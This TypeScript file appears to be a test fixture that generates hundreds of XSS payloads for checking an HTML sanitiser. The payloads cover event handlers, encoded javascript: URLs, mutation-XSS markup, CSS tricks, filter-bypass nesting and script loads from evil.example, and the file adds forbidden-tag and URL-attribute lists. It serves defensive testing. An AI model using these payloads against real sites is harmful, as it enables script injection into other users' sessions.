/**
 * XSS vectors for rich-text and name fields (quality.md §2 HTML: at least 500). Built from the
 * families that get past allow-lists in practice: event handlers on every kind of element
 * (editor components included), script-bearing URLs in every URL attribute with the encodings
 * browsers undo, markup that parsers re-shape (mutation XSS), and dangerous CSS.
 */

const RUN = 'alert(1)';

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `//evil.example/x.js`,
];

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onblur',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'OnErRoR',
  'onauxclick',
];

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'iframe',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'object',
  'embed',
  'p',
  'div',
  'span',
  'a href="#"',
  'table',
  'li',
  'mention-component entity_name="user_mention" entity_identifier="x"',
  'image-component src="https://example.com/a.png"',
  'issue-embed-component entity_identifier="x"',
];

const URL_CARRIERS = [
  (url: string) => `<a href="${url}">link</a>`,
  (url: string) => `<a href='${url}'>link</a>`,
  (url: string) => `<a href=${url.replace(/\s/g, '')}>link</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<iframe srcdoc="<script>${RUN}</script>" src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>go</button></form>`,
  (url: string) => `<button formaction="${url}">go</button>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<math><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
  (url: string) => `<image-component src="${url}"></image-component>`,
  (url: string) => `<mention-component entity_identifier="x" redirect_uri="${url}"></mention-component>`,
  (url: string) => `<base href="${url}"><a href="/x">x</a>`,
  (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url: string) => `<link rel="stylesheet" href="${url}">`,
];

const MUTATION = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,

  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<img/src="x"/onerror=${RUN}>`,
  `<img src=x onerror\n=${RUN}>`,
  `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `<svg/onload=${RUN}>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\x20type="text/javascript">${RUN}</script>`,
  `<p>"><script>${RUN}</script></p>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<select><option><script>${RUN}</script></option></select>`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext><script>${RUN}</script>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<div style="width: expression(${RUN})">x</div>`,
  `<p style="color: red; background-image: url('https://evil.example/track.png')">x</p>`,
  `<p style="behavior: url(x.htc)">x</p>`,
  `<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>`,
  `<p class="x" data-x="y" onmouseover="${RUN}">x</p>`,
  `<a href="https://ok.example" target="_blank" onclick="${RUN}">ok</a>`,
  `<img src="https://ok.example/a.png" alt="x" onerror="${RUN}">`,
  `<table background="javascript:${RUN}"><tr><td>x</td></tr></table>`,
  `<table><tr><td background="javascript:${RUN}">x</td></tr></table>`,
  `<input type="image" src="javascript:${RUN}">`,
  `<isindex action="javascript:${RUN}" type="submit">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src onloadstart=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<frameset onload=${RUN}>`,
  `<div id="x" tabindex="1" onfocusin="${RUN}" autofocus>x</div>`,
  `"><svg onload=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `</p><script>${RUN}</script><p>`,
  `<mention-component entity_identifier="x" onclick="${RUN}"></mention-component>`,
  `<issue-embed-component entity_identifier="x" onmouseover="${RUN}"></issue-embed-component>`,
  `<image-component src="x" onerror="${RUN}"></image-component>`,
  `<image-component src="x" style="background:url(javascript:${RUN})"></image-component>`,
  `<mention-component entity_identifier="x"><script>${RUN}</script></mention-component>`,
];

/**
 * Vectors aimed at filters that strip tags by pattern: harmless as a parser reads them, they
 * become tags once a naive filter removes the inner part (or more markup follows).
 */
export const NAIVE_FILTER_VECTORS = [
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>script>${RUN}<</script>/script>`,
  `<img src=x onerror=${RUN}//`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

/** The corpus: every handler on every element, every scheme in every URL carrier, and the rest. */
export function xssCorpus(): string[] {
  const vectors = new Set<string>();
  for (const element of ELEMENTS) {
    const tag = element.split(' ')[0];
    for (const handler of HANDLERS) vectors.add(`<${element} ${handler}="${RUN}">x</${tag}>`);
  }
  for (const handler of HANDLERS) vectors.add(`<table><tr><td ${handler}="${RUN}">x</td></tr></table>`);
  for (const scheme of SCHEMES) for (const carry of URL_CARRIERS) vectors.add(carry(scheme));
  for (const vector of [...MUTATION, ...NAIVE_FILTER_VECTORS]) vectors.add(vector);
  return [...vectors];
}

/** Tags that must never survive sanitising. */
export const FORBIDDEN_TAGS = new Set([
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'form',
  'base',
  'meta',
  'link',
  'svg',
  'math',
  'frameset',
  'frame',
  'button',
  'input',
  'textarea',
  'select',
  'video',
  'audio',
  'source',
  'template',
  'noscript',
  'xmp',
  'plaintext',
  'isindex',
  'keygen',
  'marquee',
]);

/** Attributes that carry a URL somewhere in the HTML/SVG vocabularies. */
export const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'background',
  'xlink:href',
  'poster',
  'srcdoc',
  'redirect_uri',
  'content',
]);
